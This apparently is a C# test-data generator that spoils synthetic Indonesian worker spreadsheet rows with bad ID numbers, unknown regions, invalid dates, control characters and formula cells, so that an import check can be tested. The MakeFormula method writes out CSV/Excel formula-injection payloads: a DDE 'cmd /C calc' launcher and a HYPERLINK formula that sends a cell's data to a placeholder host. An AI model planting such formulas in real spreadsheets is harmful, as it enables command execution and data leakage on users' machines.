using System.Globalization;

namespace Payung.Bench.WorkerGenerator;

/// <summary>
/// Spoils a good row in one of the ways real village spreadsheets go wrong. Every kind leaves the rest of
/// the row intact so that the one fault is what the import has to catch.
/// </summary>
internal sealed class RowCorrupter
{
    private const int RecentCapacity = 4096;

    // Province codes that Kemendagri has never used.
    private static readonly string[] UnusedProvinces = ["10", "20", "22", "30", "37", "40", "50", "54", "60", "66", "70", "77", "80", "83", "90", "99"];

    // Control characters that survive PostgreSQL text (NUL does not, so it is left out: the \copy reference
    // would fail on it) and that Excel keeps when pasted from other systems.
    private static readonly char[] ControlCharacters = ['\u0001', '\u0007', '\u0008', '\u000B', '\u000C', '\u001B', '\u007F'];

    private readonly RegionData regions;
    private readonly Random random;
    private readonly WorkerRow?[] recent = new WorkerRow?[RecentCapacity];
    private readonly HashSet<string> oddNikTexts = new(StringComparer.Ordinal);
    private int recentCount;

    public RowCorrupter(RegionData regions, Random random)
    {
        this.regions = regions;
        this.random = random;
    }

    public bool CanDuplicate => recentCount > 0;

    /// <summary>Remembers a good row written to the file, as a source for in-file duplicates.</summary>
    public void Remember(WorkerRow row) => recent[recentCount++ % RecentCapacity] = row;

    public WorkerRow Spoil(WorkerRow good, BadRowKind kind)
    {
        var row = kind == BadRowKind.DuplicateInFile ? Duplicate() : good;
        row.BadKind = kind;
        switch (kind)
        {
            case BadRowKind.BadNik:
                row.BadDetail = SpoilNik(row);
                break;
            case BadRowKind.UnknownRegion:
                row.BadDetail = SpoilRegion(row);
                break;
            case BadRowKind.MissingRequired:
                var column = ImportColumns.Required[random.Next(ImportColumns.Required.Length)];
                row[column] = FieldValue.Empty;
                row.BadDetail = "empty " + ImportColumns.Headers[column];
                break;
            case BadRowKind.BadDate:
                row.BadDetail = SpoilBirthDate(row);
                break;
            case BadRowKind.DuplicateInFile:
                break; // detail set by Duplicate()
            case BadRowKind.ExcelFloatNik:
                row[ImportColumns.Nik] = ExcelFloat(row[ImportColumns.Nik].Text);
                row.BadDetail = "NIK as Excel float " + row[ImportColumns.Nik].Text;
                break;
            case BadRowKind.ControlCharacters:
                row.BadDetail = InsertControlCharacter(row);
                break;
            case BadRowKind.FormulaCell:
                row.BadDetail = MakeFormula(row);
                break;
            default:
                throw new ArgumentOutOfRangeException(nameof(kind), kind, null);
        }

        var nik = row[ImportColumns.Nik].Text;
        if (kind is BadRowKind.BadNik or BadRowKind.ExcelFloatNik || (kind == BadRowKind.UnknownRegion && row.BadDetail!.StartsWith("NIK", StringComparison.Ordinal)))
        {
            // Malformed NIKs cannot equal a good one (wrong shape, region or date), only each other.
            row.RepeatsEarlierNikText = nik.Length > 0 && !oddNikTexts.Add(nik);
        }

        return row;
    }

    /// <summary>Excel keeps 15 significant digits and shows a 16-digit number as <c>1.80106E+15</c>.</summary>
    public static FieldValue ExcelFloat(string nik)
    {
        var exact = long.Parse(nik, CultureInfo.InvariantCulture);
        var stored = (double)(long)Math.Round(exact / 10.0, MidpointRounding.AwayFromZero) * 10;
        return new FieldValue(stored.ToString("0.#####E+00", CultureInfo.InvariantCulture), CellKind.Number, stored);
    }

    private WorkerRow Duplicate()
    {
        var original = recent[random.Next(Math.Min(recentCount, RecentCapacity))]!;
        var copy = original.Copy();
        copy.RepeatsEarlierNikText = true;
        if (random.Next(2) == 0)
        {
            copy.BadDetail = "same row again (pasted twice)";
        }
        else
        {
            // The same NIK typed for someone else: another name and phone.
            copy[ImportColumns.FullName] = copy[ImportColumns.FullName].Text + " " + "ABCDEFGHIJKLMNOPRSTUWY"[random.Next(22)] + ".";
            copy[ImportColumns.Phone] = "08" + random.NextInt64(100_000_000L, 9_999_999_999L).ToString(CultureInfo.InvariantCulture);
            copy.BadDetail = "same NIK, other person";
        }

        return copy;
    }

    private string SpoilNik(WorkerRow row)
    {
        var nik = row[ImportColumns.Nik].Text;
        string spoilt;
        string detail;
        switch (random.Next(6))
        {
            case 0:
                spoilt = nik.Remove(random.Next(16), 1);
                detail = "NIK 15 digits";
                break;
            case 1:
                spoilt = nik.Insert(random.Next(17), ((char)('0' + random.Next(10))).ToString());
                detail = "NIK 17 digits";
                break;
            case 2:
                var at = 6 + random.Next(10);
                spoilt = string.Concat(nik.AsSpan(0, at), nik[at] == '1' ? "l" : "O", nik.AsSpan(at + 1));
                detail = "NIK with a letter";
                break;
            case 3:
                // Day 32–40 or 72–99 cannot encode a birth date for either sex.
                var day = random.Next(2) == 0 ? 32 + random.Next(9) : 72 + random.Next(28);
                spoilt = string.Concat(nik.AsSpan(0, 6), day.ToString("00", CultureInfo.InvariantCulture), nik.AsSpan(8));
                detail = "NIK day " + day.ToString(CultureInfo.InvariantCulture);
                break;
            case 4:
                var month = random.Next(2) == 0 ? 0 : 13 + random.Next(87);
                spoilt = string.Concat(nik.AsSpan(0, 8), month.ToString("00", CultureInfo.InvariantCulture), nik.AsSpan(10));
                detail = "NIK month " + month.ToString("00", CultureInfo.InvariantCulture);
                break;
            default:
                spoilt = string.Concat(nik.AsSpan(0, 12), "0000");
                detail = "NIK serial 0000";
                break;
        }

        row[ImportColumns.Nik] = spoilt;
        return detail;
    }

    private string SpoilRegion(WorkerRow row)
    {
        if (random.Next(10) < 6)
        {
            // A village code of the right shape that is not on the list: a new village typed from memory.
            var district = row[ImportColumns.VillageCode].Text[..8];
            string code;
            do
            {
                code = string.Create(CultureInfo.InvariantCulture, $"{district}.{(random.Next(2) == 0 ? 1 : 2)}{900 + random.Next(100):000}");
            }
            while (regions.Exists(code));

            row[ImportColumns.VillageCode] = code;
            return "Kode Desa not on the list " + code;
        }

        // The NIK names a province that does not exist.
        var nik = row[ImportColumns.Nik].Text;
        row[ImportColumns.Nik] = UnusedProvinces[random.Next(UnusedProvinces.Length)] + nik[2..];
        return "NIK province unknown " + row[ImportColumns.Nik].Text[..2];
    }

    private string SpoilBirthDate(WorkerRow row)
    {
        var declared = DateOnly.ParseExact(row[ImportColumns.BirthDate].Text, "yyyy-MM-dd", CultureInfo.InvariantCulture);
        var text = random.Next(5) switch
        {
            0 => string.Create(CultureInfo.InvariantCulture, $"{declared.Year}-02-{30 + random.Next(2)}"),
            1 => string.Create(CultureInfo.InvariantCulture, $"{declared.Year}-{13 + random.Next(7)}-{declared.Day:00}"),
            2 => string.Create(CultureInfo.InvariantCulture, $"{DateTime.Today.Year + 1 + random.Next(5)}-{declared.Month:00}-{declared.Day:00}"),
            3 => "00-00-0000",
            _ => random.Next(2) == 0 ? "tidak tahu" : "-",
        };
        row[ImportColumns.BirthDate] = text; // stored as text in xlsx too: no date cell can hold it
        return "Tanggal Lahir " + text;
    }

    private string InsertControlCharacter(WorkerRow row)
    {
        var column = random.Next(2) == 0 ? ImportColumns.FullName : ImportColumns.Address;
        var text = row[column].Text;
        var c = ControlCharacters[random.Next(ControlCharacters.Length)];
        var at = random.Next(text.Length + 1);
        row[column] = text.Insert(at, c.ToString());
        return string.Create(CultureInfo.InvariantCulture, $"U+{(int)c:X4} in {ImportColumns.Headers[column]}");
    }

    private string MakeFormula(WorkerRow row)
    {
        var name = row[ImportColumns.FullName].Text;
        var escaped = name.Replace("\"", "\"\"", StringComparison.Ordinal);
        switch (random.Next(4))
        {
            case 0:
                // Formula injection: opens a program when a re-exported sheet is opened in Excel.
                row[ImportColumns.FullName] = new FieldValue(
                    "=cmd|' /C calc'!A0", CellKind.Formula, Formula: "cmd|' /C calc'!A0", Cached: "0");
                return "formula DDE in Nama Lengkap";
            case 1:
                row[ImportColumns.FullName] = new FieldValue(
                    $"=HYPERLINK(\"http://contoh.invalid/?d=\"&A2,\"{escaped}\")",
                    CellKind.Formula, Formula: $"HYPERLINK(\"http://contoh.invalid/?d=\"&A2,\"{escaped}\")", Cached: name);
                return "formula HYPERLINK in Nama Lengkap";
            case 2:
                row[ImportColumns.Address] = new FieldValue("@SUM(1+1)*cmd|' /C calc'!A0", CellKind.Formula, Formula: "SUM(1+1)*cmd|' /C calc'!A0", Cached: "0");
                return "formula @SUM in Alamat";
            default:
                // An operator's sheet that builds the name with a formula: the value is fine, the cell is not text.
                row[ImportColumns.FullName] = new FieldValue($"=UPPER(\"{escaped}\")", CellKind.Formula, Formula: $"UPPER(\"{escaped}\")", Cached: name.ToUpperInvariant());
                return "formula UPPER in Nama Lengkap";
        }
    }
}
